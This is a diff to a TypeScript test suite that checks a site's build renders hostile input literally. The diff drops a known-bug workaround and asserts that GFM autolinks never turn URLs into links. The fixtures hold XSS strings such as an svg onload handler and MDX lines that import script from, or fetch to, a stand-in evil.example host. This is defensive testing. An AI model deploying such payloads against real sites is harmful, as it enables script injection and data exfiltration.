@@ -33,13 +33,6 @@ const INJECTIONS = [
   '<svg onload=alert(5)>',
   '<link rel="stylesheet" href="https://evil.example/x.css">',
 ];
-/**
- * Known bug, reported: a URL in the text is turned into a link by GFM's autolink literals, which
- * ignore the backslash escapes of `scripts/ingest/markdown-body.ts`, so `https://evil.example/frame"\>\`
- * becomes the link's address and its text shows the backslashes. The link is inert (no script, CSP
- * holds), but the text is not rendered literally.
- */
-const withUrl = (injection: string) => injection.includes('https://');
 const MDX_LINES = [
   'import Evil from "https://evil.example/evil.js"',
   'export const leak = fetch("https://evil.example/leak")',
@@ -217,16 +210,15 @@ describe('built pages of hostile input', () => {
   it('render every injection literally, as text', () => {
     const text = decodeEntities(page('html.txt').replace(/<[^>]+>/g, ''));
     expect(text).toContain(HOSTILE_TITLE);
-    for (const injection of INJECTIONS.filter((injection) => !withUrl(injection))) expect(text).toContain(injection);
+    for (const injection of INJECTIONS) expect(text).toContain(injection);
     const mdx = decodeEntities(page('mdx.txt').replace(/<[^>]+>/g, ''));
-    for (const line of MDX_LINES.filter((line) => !withUrl(line))) expect(mdx).toContain(line);
+    for (const line of MDX_LINES) expect(mdx).toContain(line);
     const yaml = decodeEntities(page('yaml.txt').replace(/<[^>]+>/g, ''));
     for (const line of YAML_LINES) expect(yaml).toContain(line);
   });
 
-  it.fails('render URLs in the text literally (known bug: GFM autolinks ignore the escapes of markdown-body.ts)', () => {
-    const text = decodeEntities(page('html.txt').replace(/<[^>]+>/g, ''));
-    for (const injection of INJECTIONS.filter(withUrl)) expect(text).toContain(injection);
+  it('turn no URL of the text into a link (GFM autolinks are escaped)', () => {
+    for (const name of hostile) expect(page(name)).not.toMatch(/<a [^>]*href="(https?:|mailto:)[^"]*evil/);
   });
 
   it('contain no markup from the text: no script, iframe, event handler or javascript: URL', () => {
@@ -323,7 +315,7 @@ describe.skipIf(!hasChromium)(`hostile pages in real Chromium, under the site's 
       expect(live.frames).toBe(0);
       expect(live.handlers).toEqual([]);
       expect(live.javascriptLinks).toBe(0);
-      if (name === 'html.txt') for (const injection of INJECTIONS.filter((injection) => !withUrl(injection))) expect(live.text).toContain(injection);
+      if (name === 'html.txt') for (const injection of INJECTIONS) expect(live.text).toContain(injection);
       await tab.close();
     }
   });
